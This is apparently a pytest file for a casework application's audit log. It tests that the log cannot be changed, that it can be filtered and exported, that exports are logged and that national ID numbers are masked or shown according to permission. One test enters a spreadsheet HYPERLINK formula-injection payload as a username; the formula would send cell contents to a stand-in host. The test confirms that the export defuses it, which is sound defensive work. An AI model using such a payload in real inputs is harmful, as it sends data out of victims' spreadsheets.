"""The audit log is append-only, filterable, exportable (and the export is itself logged)."""
import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete, select, update
from sqlalchemy.exc import DatabaseError

from lib.base import accounts, audit
from lib.base.db import AuditEntry, session_factory
from lib.base.permissions import Actor, PermissionDenied
from lib.casework import nik


@pytest.fixture
def db(ready_db):
    with session_factory(ready_db).begin() as s:
        accounts.add_user(s, None, "admin", "Admin", "rahasia-admin", [("admin", None)])
        accounts.add_user(s, None, "rina", "Rina", "rahasia-rina", [("staf", None)])
        accounts.authenticate(s, "rina", "rahasia-rina")
        accounts.authenticate(s, "rina", "salah")
    return session_factory(ready_db)


def who(db, username) -> Actor:
    with db() as s:
        return accounts.load_actor(s, username)


def test_the_database_refuses_to_change_an_audit_entry(db):
    with pytest.raises(DatabaseError), db.begin() as s:
        s.execute(update(AuditEntry).values(detail="diubah"))


def test_the_database_refuses_to_delete_an_audit_entry(db):
    with pytest.raises(DatabaseError), db.begin() as s:
        s.execute(delete(AuditEntry))
    with db() as s:
        assert s.scalar(select(AuditEntry.id).limit(1)) is not None


def test_lib_has_no_update_or_delete_path_for_the_audit_log():
    import inspect

    from lib.base import audit_chain
    for module in (audit, audit_chain):
        source = inspect.getsource(module)
        assert "delete(" not in source and "update(" not in source and ".merge(" not in source


def test_admin_filters_the_log_by_user_and_action(db):
    with db() as s:
        entries = audit.search(s, who(db, "admin"), audit.AuditFilter(username="rina", action="gagal_masuk"))
    assert [(e.action, e.username) for e in entries] == [("gagal_masuk", "rina")]


def test_the_date_filter_uses_wib_calendar_days(db):
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=7))).date()
    with db() as s:
        assert audit.search(s, who(db, "admin"), audit.AuditFilter(date_from=today, date_to=today))
        assert not audit.search(s, who(db, "admin"), audit.AuditFilter(date_to=today - dt.timedelta(days=1)))


def test_staf_cannot_view_audit_log(db):
    with pytest.raises(PermissionDenied), db() as s:
        audit.search(s, who(db, "rina"), audit.AuditFilter())


def test_an_export_of_the_log_is_itself_logged(db):
    with db.begin() as s:
        data = audit.export_xlsx(s, who(db, "admin"), audit.AuditFilter(username="rina"))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "Waktu (WIB)" and ws.max_row == 3  # header + login + failed login
    with db() as s:
        last = s.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (last.action, last.username, last.object_type) == ("ekspor", "admin", "audit_log")


def test_nik_is_masked_for_display():
    assert nik.mask("3201010101900003") == "3201********0003"
    assert nik.mask(None) == "—" and nik.mask("123") == "***"


def test_a_full_nik_view_needs_the_permission_and_is_logged(db):
    staf = who(db, "rina")
    with db.begin() as s:
        assert nik.display(s, staf, "3201010101900003", "case", 7, full=True) == "3201010101900003"
    with db() as s:
        last = s.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (last.action, last.username, last.object_id) == ("lihat_nik", "rina", "7")
    assert "3201010101900003" not in (last.detail or "")


def test_admin_cannot_see_a_full_nik(db):
    with pytest.raises(PermissionDenied), db.begin() as s:
        nik.reveal(s, who(db, "admin"), "3201010101900003", "case", 7)


def test_an_operator_sees_full_nik_only_for_their_own_desa(db):
    with db.begin() as s:
        accounts.add_user(s, None, "operator1", "Op", "rahasia-op1", [("operator_desa", "desa:karang-dalo")])
    op = who(db, "operator1")
    with db.begin() as s:
        nik.reveal(s, op, "3201010101900003", "kandidat", 1, scope="desa:karang-dalo")
        with pytest.raises(PermissionDenied):
            nik.reveal(s, op, "3201010101900003", "kandidat", 2, scope="desa:lain")


def test_the_audit_log_filter_defaults_to_the_last_30_days_in_wib():
    import datetime as dt

    from lib.base.audit import default_period

    evening_utc = dt.datetime(2026, 12, 4, 17, 30, tzinfo=dt.timezone.utc)  # 00:30 WIB on 5 December
    assert default_period(evening_utc) == (dt.date(2026, 11, 5), dt.date(2026, 12, 5))


def test_a_formula_typed_as_a_user_name_is_no_live_cell_in_the_audit_export(db):
    """Every column, not only the detail: a failed login writes the typed name into the log."""
    import io as _io

    from openpyxl import load_workbook

    from lib.base import accounts
    from lib.base.audit import export_xlsx

    evil = '=HYPERLINK("http://contoh.invalid/?d="&B2,"klik")'
    with db.begin() as s:
        accounts.authenticate(s, evil, "salah")
    with db.begin() as s:
        data = export_xlsx(s, accounts.load_actor(s, "admin"))
    cells = [c.value for row in load_workbook(_io.BytesIO(data)).active.iter_rows() for c in row]
    texts = [v for v in cells if isinstance(v, str)]
    assert any(evil.lower() in v.lower() for v in texts), "the attempt is in the export"
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
